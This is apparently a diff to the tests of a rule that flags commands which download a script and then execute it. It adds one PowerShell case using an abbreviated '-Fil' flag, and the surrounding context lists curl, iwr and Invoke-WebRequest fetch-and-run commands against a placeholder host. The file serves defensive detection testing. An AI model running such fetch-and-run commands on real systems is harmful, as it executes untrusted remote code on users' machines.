@@ -50,6 +50,7 @@ runRuleTable(rule, {
     { command: 'curl -o x.pl https://x.io/x.pl && perl x.pl', messageId: 'script' },
     { command: 'iwr https://x.io/a.ps1 -OutFile a.ps1; ./a.ps1', messageId: 'direct' },
     { command: 'Invoke-WebRequest -Uri https://x.io/a.ps1 -OutFile a.ps1; pwsh -File a.ps1', messageId: 'script' },
+    { command: 'iwr https://x.io/setup -OutFile setup; powershell -NoProfile -Fil setup', messageId: 'script' },
     { command: 'curl -o i.sh https://x.io/i.sh && source ./i.sh', messageId: 'script' },
     { command: 'curl -o i.sh https://x.io/i.sh && bash /work/project/i.sh', messageId: 'script' },
     { command: 'curl -o /tmp/setup https://x.io/setup && chmod +x /tmp/setup && /tmp/setup --yes', messageId: 'direct' },
